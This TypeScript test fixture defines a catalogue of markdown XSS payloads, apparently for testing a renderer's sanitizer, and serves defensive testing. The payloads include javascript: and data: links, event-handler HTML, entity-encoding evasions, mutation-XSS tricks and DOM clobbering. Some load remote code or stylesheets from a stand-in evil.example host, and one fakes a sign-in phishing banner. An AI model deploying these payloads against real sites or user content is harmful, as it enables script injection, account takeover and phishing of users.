/**
 * Hostile markdown: real XSS payloads, grouped by the vector classes of
 * ../shared/research/security-anchors.md §3 (dangerous schemes, autolinks, raw HTML, attribute breakout through
 * markdown syntax, encoding tricks, CSS, mutation XSS / namespace confusion, DOM clobbering), plus markdown-specific
 * sinks (code info strings, mentions, tables, headings). Sources: the OWASP XSS filter evasion cheat sheet,
 * PortSwigger's XSS cheat sheet, the DOMPurify and sanitize-html test suites, and the CommonMark autolink rules.
 *
 * Each payload is a whole markdown document on its own; joined with blank lines they also make one big document
 * (some payloads then swallow the ones after them, which is why every payload is also rendered alone).
 */
export type XssClass =
  | "scheme"
  | "autolink"
  | "raw-html"
  | "breakout"
  | "encoding"
  | "css"
  | "mxss"
  | "clobbering"
  | "markdown";

export type XssPayload = { id: string; class: XssClass; markdown: string };

const p = (id: string, cls: XssClass, markdown: string): XssPayload => ({ id, class: cls, markdown });

const b64Script = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>

export const xssCorpus: XssPayload[] = [
  // 1. Dangerous URL schemes in markdown links and images.
  p("scheme-js-link", "scheme", "[click me](javascript:alert(1))"),
  p("scheme-js-mixed-case", "scheme", "[click me](JaVaScRiPt:alert(document.domain))"),
  p("scheme-vbscript", "scheme", "[click me](vbscript:msgbox(1))"),
  p("scheme-data-html", "scheme", `[click me](data:text/html;base64,${b64Script})`),
  p("scheme-js-comment-crlf", "scheme", "[click me](javascript://%0d%0aalert(1))"),
  p("scheme-js-angle-destination", "scheme", "[click me](<javascript:alert(1)>)"),
  p("scheme-js-leading-space", "scheme", "[click me](  javascript:alert(1))"),
  p("scheme-entity-one-char", "scheme", "[click me](javas&#99;ript:alert(1))"),
  p("scheme-entity-hex-no-semicolon", "scheme", "[click me](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))"),
  p("scheme-entity-decimal", "scheme", "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"),
  p("scheme-entity-colon", "scheme", "[click me](javascript&colon;alert(1))"),
  p("scheme-entity-tab", "scheme", "[click me](jav&#x09;ascript:alert(1))"),
  p("scheme-tab-in-angle-destination", "scheme", "[click me](<java\tscript:alert(1)>)"),
  p("scheme-leading-control-char", "scheme", "[click me](\u0001javascript:alert(1))"),
  p("scheme-reference-definition", "scheme", "[click me]\n\n[click me]: javascript:alert(1)"),
  p("scheme-reference-with-title", "scheme", '[click me][xss]\n\n[xss]: <javascript:alert(1)> "a title"'),
  p("scheme-image-js", "scheme", "![picture](javascript:alert(1))"),
  p("scheme-image-data-svg", "scheme", "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
  p("scheme-image-vbscript", "scheme", "![picture](vbscript:alert(1))"),
  p("scheme-file", "scheme", "[passwords](file:///etc/passwd)"),

  // 2. Autolinks (CommonMark angle-bracket autolinks and GFM bare links).
  p("autolink-js", "autolink", "<javascript:alert(1)>"),
  p("autolink-js-upper", "autolink", "<JAVASCRIPT:alert(1)>"),
  p("autolink-vbscript", "autolink", "<vbscript:msgbox(1)>"),
  p("autolink-data", "autolink", "<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>"),
  p("autolink-meta-in-http", "autolink", "<http://\\<meta http-equiv=\\\"refresh\\\" content=\\\"0; url=javascript:alert(1)\\\"\\>>"),
  p("autolink-gfm-www-quote", "autolink", 'www.example.com/"onmouseover="alert(1)'),
  p("autolink-gfm-bare-script", "autolink", 'https://example.com/"><script>alert(1)</script>'),
  p("autolink-mailto-breakout", "autolink", '<mailto:a@example.com"onclick="alert(1)>'),

  // 3. Raw HTML passed through by marked.
  p("html-script", "raw-html", "<script>alert(1)</script>"),
  p("html-img-onerror", "raw-html", "<img src=x onerror=alert(1)>"),
  p("html-img-onerror-upper", "raw-html", '<IMG SRC="x" ONERROR="alert(1)">'),
  p("html-img-slashes", "raw-html", '<img/src="x"/onerror="alert(1)">'),
  p("html-svg-onload", "raw-html", "<svg/onload=alert(1)>"),
  p("html-svg-script", "raw-html", "<svg><script>alert(1)</script></svg>"),
  p("html-iframe-js", "raw-html", '<iframe src="javascript:alert(1)"></iframe>'),
  p("html-iframe-srcdoc", "raw-html", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
  p("html-object-data", "raw-html", `<object data="data:text/html;base64,${b64Script}"></object>`),
  p("html-embed", "raw-html", '<embed src="javascript:alert(1)">'),
  p("html-base", "raw-html", '<base href="javascript:alert(1)//">\n\n[relative](x)'),
  p("html-meta-refresh", "raw-html", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  p("html-form-formaction", "raw-html", '<form><button formaction="javascript:alert(1)">go</button></form>'),
  p("html-video-poster", "raw-html", "<video poster=javascript:alert(1)// controls></video>"),
  p("html-video-source-onerror", "raw-html", '<video><source onerror="alert(1)"></video>'),
  p("html-audio-onerror", "raw-html", "<audio src onerror=alert(1)>"),
  p("html-math-href", "raw-html", '<math href="javascript:alert(1)">CLICK</math>'),
  p("html-body-onload", "raw-html", "<body onload=alert(1)>"),
  p("html-details-ontoggle", "raw-html", "<details open ontoggle=alert(1)><summary>open me</summary>text</details>"),
  p("html-a-js-href", "raw-html", '<a href="javascript:alert(1)">a link</a>'),
  p("html-a-onclick", "raw-html", '<a href="https://example.com" onclick="alert(1)">a link</a>'),
  p("html-input-checkbox-onfocus", "raw-html", '<input type="checkbox" autofocus onfocus="alert(1)">'),
  p("html-input-text-onfocus", "raw-html", "<input type=text autofocus onfocus=alert(1)>"),
  p("html-input-image", "raw-html", "<input type=image src=x onerror=alert(1)>"),
  p("html-textarea-onfocus", "raw-html", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
  p("html-select-onfocus", "raw-html", "<select autofocus onfocus=alert(1)><option>x</option></select>"),
  p("html-marquee", "raw-html", "<marquee onstart=alert(1)>x</marquee>"),
  p("html-link-import", "raw-html", "<link rel=import href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">"),
  p("html-table-background", "raw-html", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
  p("html-td-onpointer", "raw-html", "<table><tr><td onpointerover=alert(1)>hover</td></tr></table>"),
  p("html-custom-tag-onfocus", "raw-html", "<xss id=x tabindex=1 autofocus onfocus=alert(1)>focus</xss>"),
  p("html-svg-animate", "raw-html", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
  p("html-frameset", "raw-html", "<frameset onload=alert(1)>"),
  p("html-nested-script", "raw-html", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
  p("html-double-open", "raw-html", "<<script>alert(1);//<</script>"),
  p("html-quote-confusion", "raw-html", '<img """><script>alert(1)</script>">'),
  p("html-img-eval-src", "raw-html", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
  p("html-object-scriptlet", "raw-html", '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>'),
  p("html-summary-onclick", "raw-html", "<details><summary onclick=alert(1)>summary</summary>x</details>"),

  // 4. Attribute breakout through markdown syntax.
  p("breakout-image-alt-quotes", "breakout", "![a'\"`onerror=prompt(1)](x)"),
  p("breakout-image-src-quote", "breakout", '![x](x" onerror="alert(1))'),
  p("breakout-image-title", "breakout", '![x](https://img.example/a.png "title\\" onerror=\\"alert(1)")'),
  p("breakout-link-title", "breakout", '[a](https://example.com "a\\" onmouseover=\\"alert(1)")'),
  p("breakout-link-single-quoted-title", "breakout", "[a](https://example.com 'x' onclick='alert(1)')"),
  p("breakout-image-alt-attr", "breakout", '![" onerror="alert(1)](https://img.example/a.png)'),
  p("breakout-html-in-link-text", "breakout", "[<img src=x onerror=alert(1)>](https://example.com)"),
  p("breakout-link-url-quote", "breakout", '[x](https://example.com/"onmouseover="alert(1))'),
  p("breakout-image-url-quote", "breakout", '![x](https://img.example/a.png"onload="alert(1))'),
  p("breakout-markdown-in-href", "breakout", '<a href="[x](javascript:alert(1))">y</a>'),

  // 5. Encoding tricks in raw HTML attributes.
  p("enc-hex-entities", "encoding", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'),
  p("enc-decimal-no-semicolon", "encoding", '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>'),
  p(
    "enc-zero-padded",
    "encoding",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ),
  p(
    "enc-img-hex-no-semicolon",
    "encoding",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  ),
  p("enc-embedded-tab-entity", "encoding", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
  p("enc-embedded-newline-entity", "encoding", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
  p("enc-embedded-cr-entity", "encoding", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
  p("enc-embedded-nul-entity", "encoding", '<a href="java&#0;script:alert(1)">x</a>'),
  p("enc-embedded-raw-tab", "encoding", '<img src="jav\tascript:alert(1)">'),
  p("enc-embedded-raw-newline", "encoding", '<a href="java\nscript:alert(1)">x</a>'),
  p("enc-leading-controls", "encoding", '<a href=" &#14;  javascript:alert(1)">x</a>'),
  p("enc-named-tab-newline", "encoding", '<a href="&Tab;java&NewLine;script&colon;alert(1)">x</a>'),
  p("enc-leading-nbsp", "encoding", '<a href="&#xA0;javascript:alert(1)">x</a>'),
  p("enc-leading-unicode-spaces", "encoding", '<a href="&#x2000;&#x200B;&#x2028;javascript:alert(1)">x</a>'),
  p("enc-colon-decimal-no-semicolon", "encoding", '<a href="javascript&#58alert(1)">x</a>'),
  p("enc-percent-encoded-scheme", "encoding", '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">x</a>'),
  p("enc-data-colon-entity", "encoding", `<a href="data&colon;text/html;base64,${b64Script}">x</a>`),
  p("enc-utf7", "encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
  p("enc-backslash-protocol-relative", "encoding", '<a href="/\\evil.example/%2e%2e">x</a> [y](//evil.example)'),

  // 6. CSS.
  p("css-style-url-js", "css", '<p style="background:url(javascript:alert(1))">styled</p>'),
  p("css-expression", "css", '<div style="width: expression(alert(1))">styled</div>'),
  p("css-moz-binding", "css", '<style>body{-moz-binding:url("https://evil.example/xss.xml#xss")}</style>'),
  p("css-import", "css", "<style>@import 'https://evil.example/x.css';</style>"),
  p("css-overlay", "css", '<span style="position:fixed;inset:0;z-index:9999;background:#fff">fake page</span>'),
  p("css-link-stylesheet", "css", '<link rel="stylesheet" href="https://evil.example/x.css">'),
  p("css-app-classes-span", "css", '<span class="alert alert-error">Your session expired, sign in again at evil.example</span>'),
  p("css-app-classes-code", "css", '<code class="button button-danger">Delete everything</code>'),

  // 7. Mutation XSS and namespace confusion.
  p("mxss-math-mglyph-style", "mxss", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
  p("mxss-svg-p-style", "mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  p("mxss-noscript", "mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  p("mxss-template", "mxss", "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>"),
  p("mxss-xmp", "mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
  p("mxss-noembed", "mxss", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
  p("mxss-form-math", "mxss", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
  p("mxss-math-mi-style", "mxss", "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>"),
  p("mxss-foreignobject", "mxss", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
  p("mxss-comment", "mxss", '<!--<img src="--><img src=x onerror=alert(1)//">'),
  p("mxss-textarea-title", "mxss", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
  p("mxss-title", "mxss", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
  p("mxss-select-template", "mxss", '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">'),
  p("mxss-svg-style-entities", "mxss", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>"),
  p("mxss-cdata", "mxss", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
  p("mxss-svg-cdata", "mxss", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),

  // 8. DOM clobbering.
  p("clobber-img-name", "clobbering", '<img name="getElementById" src="https://img.example/a.png">'),
  p("clobber-a-id-location", "clobbering", '<a id="location" href="https://evil.example">x</a>'),
  p("clobber-form-attributes", "clobbering", '<form id="x"><input name="attributes"></form>'),
  p("clobber-cookie", "clobbering", "<img name=cookie><img name=cookie>"),
  p("clobber-double-anchor", "clobbering", '<a id=defaultAvatar><a id=defaultAvatar name=avatar href="cid:&quot;onerror=alert(1)//">x</a>'),
  p("clobber-remix-context", "clobbering", '<img id="__remixContext"><a id="__remixManifest" name="__remixRouteModules">x</a>'),
  p("clobber-details-span", "clobbering", '<details id="root" name="body"><summary id="main">x</summary></details><span id="__reactContainer">y</span>'),
  p("clobber-checkbox", "clobbering", '<input type="checkbox" name="body" id="body" form="logout">'),

  // Markdown-specific sinks.
  p("md-code-span-script", "markdown", "`<script>alert(1)</script>`"),
  p("md-fenced-html", "markdown", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"),
  p("md-info-string-breakout", "markdown", '```"><script>alert(1)</script>\nconsole.log(1)\n```'),
  p("md-info-string-attr", "markdown", "```js onclick=alert(1)\nconsole.log(1)\n```"),
  p("md-heading-html", "markdown", "# <img src=x onerror=alert(1)> heading"),
  p("md-table-cell-html", "markdown", "| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| <svg onload=alert(1)> | [x](javascript:alert(1)) |"),
  p("md-blockquote-html", "markdown", "> <iframe src=javascript:alert(1)></iframe>\n> [x](javascript:alert(1))"),
  p("md-list-html", "markdown", "- <img src=x onerror=alert(1)>\n- [ ] <svg onload=alert(1)>"),
  p("md-mention-adjacent-html", "markdown", "@camille.martin<img src=x onerror=alert(1)>"),
  p("md-mention-in-js-link", "markdown", "[@camille.martin](javascript:alert(1))"),
  p("md-raw-mention-link-onclick", "markdown", '<a href="/people/camille.martin" onclick="alert(1)">@camille.martin</a>'),
  p("md-emphasis-html", "markdown", "**<img src=x onerror=alert(1)>** _<svg onload=alert(1)>_ ~~<script>alert(1)</script>~~"),
];

/** Every payload as one markdown document. */
export const xssCorpusDocument = xssCorpus.map((x) => x.markdown).join("\n\n");
